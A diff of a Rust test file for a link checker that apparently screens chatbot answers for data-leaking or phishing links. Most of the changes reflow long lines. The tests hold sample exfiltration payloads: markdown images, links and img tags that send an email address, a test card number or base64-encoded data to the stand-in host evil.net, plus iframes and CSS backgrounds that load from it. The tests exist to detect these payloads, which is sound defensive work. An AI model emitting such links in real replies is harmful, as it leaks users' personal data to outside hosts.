@@ -17,7 +17,8 @@ fn judge() -> Judge {
 fn ids(text: &str, channel: Channel, values: &[&str]) -> Vec<String> {
     let judged = judge().text(text, channel, values);
     let signs = judged.links.iter().flat_map(|link| &link.signs).chain(&judged.signs);
-    let mut ids: Vec<String> = signs.map(|sign| sign.info.id.to_string()).filter(|id| id != "model.address").collect();
+    let mut ids: Vec<String> =
+        signs.map(|sign| sign.info.id.to_string()).filter(|id| id != "model.address").collect();
     ids.sort();
     ids.dedup();
     ids
@@ -67,10 +68,19 @@ fn each_trick_has_its_sign() {
 #[test]
 fn harmless_addresses_have_none() {
     for text in [
-        "https://www.paypal.com/signin", "https://en.wikipedia.org/wiki/PayPal", "see acme-widgets.com/help", "www.examplebank.com",
-        "https://docs.python.org/3/library/re.html#module-re", "[our site](https://acme-widgets.com/)", "anna@example.com",
-        "[acme-widgets.com](https://www.acme-widgets.com/x)", "https://münchen.de/", "https://москва.рф/", "https://example.com:8080/",
-        "https://www.amazon.co.uk/dp/B000", "![logo](https://img.example.net/logo.png)",
+        "https://www.paypal.com/signin",
+        "https://en.wikipedia.org/wiki/PayPal",
+        "see acme-widgets.com/help",
+        "www.examplebank.com",
+        "https://docs.python.org/3/library/re.html#module-re",
+        "[our site](https://acme-widgets.com/)",
+        "anna@example.com",
+        "[acme-widgets.com](https://www.acme-widgets.com/x)",
+        "https://münchen.de/",
+        "https://москва.рф/",
+        "https://example.com:8080/",
+        "https://www.amazon.co.uk/dp/B000",
+        "![logo](https://img.example.net/logo.png)",
     ] {
         assert_eq!(ids(text, Channel::Customer, &[]), Vec::<String>::new(), "{text}");
     }
@@ -80,19 +90,28 @@ fn harmless_addresses_have_none() {
 fn answers_carry_nothing_away() {
     let values = ["anna.smith@example.org", "4111 1111 1111 1111"];
     for text in [
-        "![x](https://evil.net/i.png?d=[PERSON_1])", "[details](https://evil.net/?m=anna.smith%40example.org)",
-        "<img src=\"https://evil.net/?c=4111111111111111\">", "![x][r]\n\n[r]: https://evil.net/YW5uYS5zbWl0aEBleGFtcGxlLm9yZw==",
-        "https://evil.net/?d=%5BCARD_1%5D", "![x](https://evil.net/?q=the customer lives in a small house)",
+        "![x](https://evil.net/i.png?d=[PERSON_1])",
+        "[details](https://evil.net/?m=anna.smith%40example.org)",
+        "<img src=\"https://evil.net/?c=4111111111111111\">",
+        "![x][r]\n\n[r]: https://evil.net/YW5uYS5zbWl0aEBleGFtcGxlLm9yZw==",
+        "https://evil.net/?d=%5BCARD_1%5D",
+        "![x](https://evil.net/?q=the customer lives in a small house)",
     ] {
         assert!(ids(text, Channel::Bot, &values).contains(&"link.carries-data".to_owned()), "{text}");
         assert!(!ids(text, Channel::Customer, &values).contains(&"link.carries-data".to_owned()), "{text}");
     }
-    for text in ["![x](https://evil.net/i.png)", "<iframe src=//evil.net>", "<p style='background:url(//evil.net/x)'>"] {
+    for text in [
+        "![x](https://evil.net/i.png)",
+        "<iframe src=//evil.net>",
+        "<p style='background:url(//evil.net/x)'>",
+    ] {
         assert_eq!(ids(text, Channel::Bot, &[]), ["link.loads-from-elsewhere"], "{text}");
     }
     for text in [
-        "![x](https://img.example.net/i.png?d=[PERSON_1])", "![x](https://cdn.example.org/assets/a.png)",
-        "[our shop](https://example.com/shop?item=4711)", "![x](https://acme-widgets.com/a.png)",
+        "![x](https://img.example.net/i.png?d=[PERSON_1])",
+        "![x](https://cdn.example.org/assets/a.png)",
+        "[our shop](https://example.com/shop?item=4711)",
+        "![x](https://acme-widgets.com/a.png)",
     ] {
         assert_eq!(ids(text, Channel::Bot, &values), Vec::<String>::new(), "{text}");
     }
@@ -128,7 +147,9 @@ fn settings_that_say_nothing_are_refused() {
     assert!(own("Example.COM").is_ok() && own("münchen.de").is_ok() && own("*.example.com").is_ok());
     let brand = |name: &str| Brand { name: name.into(), domains: vec![] };
     let named = |name: &str| Judge::new(&Settings { brands: vec![brand(name)], ..Settings::default() });
-    assert!(matches!(named("a"), Err(Fault::NotAName(_))) && matches!(named("a.com"), Err(Fault::NotAName(_))));
+    assert!(
+        matches!(named("a"), Err(Fault::NotAName(_))) && matches!(named("a.com"), Err(Fault::NotAName(_)))
+    );
     let many = vec!["example.com".to_owned(); 20_001];
     assert!(matches!(Judge::new(&Settings { allowed: many, ..Settings::default() }), Err(Fault::TooMany)));
 }
